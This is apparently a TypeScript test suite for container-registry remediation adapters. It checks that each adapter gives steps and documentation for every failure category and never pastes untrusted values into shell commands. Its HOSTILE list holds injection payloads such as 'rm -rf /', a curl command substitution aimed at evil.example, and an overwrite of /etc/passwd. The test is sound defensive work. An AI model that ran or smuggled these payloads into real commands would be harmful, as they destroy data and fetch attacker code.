// One suite every adapter must pass: remediation for every category, documented, and shell-safe.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Facts, ImageRef } from '../../src/engine/diagnosis.js';
import { CATEGORIES, type Provider } from '../../src/engine/vocabulary.js';
import { genericRemediation, providerAdapters, providerName, remediationFor } from '../../src/providers/index.js';
import type { ProviderRemediation, RemediationContext } from '../../src/providers/types.js';

const SAMPLE_IMAGES: Record<Provider, ImageRef> = {
  ecr: { reference: '123456789012.dkr.ecr.us-east-1.amazonaws.com/team/app:v1', host: '123456789012.dkr.ecr.us-east-1.amazonaws.com', provider: 'ecr', account: '123456789012', region: 'us-east-1', repository: 'team/app', tag: 'v1' },
  gar: { reference: 'us-central1-docker.pkg.dev/acme-ci/repo/app:v1', host: 'us-central1-docker.pkg.dev', provider: 'gar', account: 'acme-ci', region: 'us-central1', repository: 'acme-ci/repo/app', tag: 'v1' },
  gcr: { reference: 'eu.gcr.io/acme-ci/app:v1', host: 'eu.gcr.io', provider: 'gcr', account: 'acme-ci', region: 'eu', repository: 'acme-ci/app', tag: 'v1' },
  acr: { reference: 'contoso.azurecr.io/team/app:v1', host: 'contoso.azurecr.io', provider: 'acr', account: 'contoso', repository: 'team/app', tag: 'v1' },
  dockerhub: { reference: 'docker.io/acme/app:v1', host: 'docker.io', provider: 'dockerhub', account: 'acme', repository: 'acme/app', tag: 'v1' },
  ghcr: { reference: 'ghcr.io/acme/app:v1', host: 'ghcr.io', provider: 'ghcr', account: 'acme', repository: 'acme/app', tag: 'v1' },
  other: { reference: 'registry.example.com:5000/team/app:v1', host: 'registry.example.com:5000', provider: 'other', repository: 'team/app', tag: 'v1' },
};

const SAMPLE_FACTS: Facts = {
  principal: 'arn:aws:sts::123456789012:assumed-role/ci-push/gh-4242',
  permission: 'ecr:InitiateLayerUpload',
  clientIp: '203.0.113.42',
};

function checkShape(remediation: ProviderRemediation, label: string): void {
  expect(remediation.steps.length, label).toBeGreaterThan(0);
  expect(remediation.docs.length, label).toBeGreaterThan(0);
  for (const s of remediation.steps) {
    expect(s.text.length, label).toBeGreaterThan(5);
    if (s.command !== undefined) expect(s.command.trim().length, label).toBeGreaterThan(0);
  }
  for (const d of remediation.docs) {
    expect(d.url, label).toMatch(/^https:\/\/[a-z0-9.-]+\.[a-z]{2,}\//);
    expect(d.title.length, label).toBeGreaterThan(3);
  }
  expect(new Set(remediation.docs.map((d) => d.url)).size, `${label}: duplicate doc`).toBe(remediation.docs.length);
}

/** A value that must never reach a command: each carries the marker and a shell metacharacter. */
const HOSTILE = [
  'PWNED; rm -rf /',
  '$(curl evil.example/PWNED)',
  '`PWNED`',
  'a|PWNED',
  'PWNED&&id',
  "PWNED'quote",
  'PWNED"quote',
  '--PWNED',
  'PWNED\nid',
  'PWNED > /etc/passwd',
  'PWNED*',
  'x PWNED',
];

function hostileContext(provider: Provider, category: (typeof CATEGORIES)[number], value: string): RemediationContext {
  const base = SAMPLE_IMAGES[provider];
  return {
    category,
    provider,
    image: { ...base, account: value, region: value, repository: value, tag: value, host: value, digest: value },
    facts: { image: value, host: value, repository: value, permission: value, principal: value, clientIp: value, account: value, region: value },
  };
}

describe.each(providerAdapters.map((a) => [a.id, a] as const))('adapter %s', (_id, adapter) => {
  for (const provider of adapter.providers) {
    it.each(CATEGORIES)(`${provider}: %s has provider steps and docs, or generic OCI advice`, (category) => {
      for (const context of [
        { category, provider, image: SAMPLE_IMAGES[provider], facts: SAMPLE_FACTS },
        { category, provider, facts: {} },
      ] satisfies RemediationContext[]) {
        const own = adapter.remediate(context);
        if (own) checkShape(own, `${adapter.id}/${provider}/${category}`);
        else checkShape(genericRemediation(context), `oci fallback for ${provider}/${category}`);
        checkShape(remediationFor(context), `remediationFor ${provider}/${category}`);
      }
    });

    it(`${provider}: never pastes a fact carrying shell metacharacters`, () => {
      for (const category of CATEGORIES) {
        for (const value of HOSTILE) {
          const context = hostileContext(provider, category, value);
          for (const remediation of [adapter.remediate(context), genericRemediation(context)]) {
            if (!remediation) continue;
            const rendered = JSON.stringify(remediation);
            expect(rendered, `${provider}/${category} with ${JSON.stringify(value)}`).not.toContain('PWNED');
          }
        }
      }
    });

    it(`${provider}: has a name for people, not its id, with and without a host`, () => {
      for (const host of [SAMPLE_IMAGES[provider].host, undefined]) {
        const name = adapter.displayName(provider, host);
        expect(name, String(host)).toMatch(/^\S.{2,}\S$/);
        expect(name.toLowerCase(), String(host)).not.toBe(provider);
        expect(providerName(provider, host), String(host)).toBe(name);
      }
    });

    it(`${provider}: never pastes arbitrary unsafe text (property)`, () => {
      const unsafe = fc
        .tuple(fc.string({ maxLength: 20 }), fc.constantFrom(...' ;|&$`\'"<>()\n\\*?!{}'.split('')), fc.string({ maxLength: 20 }))
        .map(([a, meta, b]) => `ZQX${a}${meta}${b}`);
      fc.assert(
        fc.property(unsafe, fc.constantFrom(...CATEGORIES), (value, category) => {
          const context = hostileContext(provider, category, value);
          const remediation = adapter.remediate(context) ?? genericRemediation(context);
          expect(remediation.explanation ?? '').not.toContain('ZQX');
          for (const s of remediation.steps) {
            expect(s.command ?? '').not.toContain('ZQX');
            expect(s.text).not.toContain('ZQX');
          }
        }),
        { numRuns: 200 },
      );
    });
  }
});

describe('generic OCI remediation', () => {
  it('covers every category on its own', () => {
    for (const category of CATEGORIES) {
      checkShape(genericRemediation({ category, provider: 'other', facts: {} }), category);
    }
  });
});
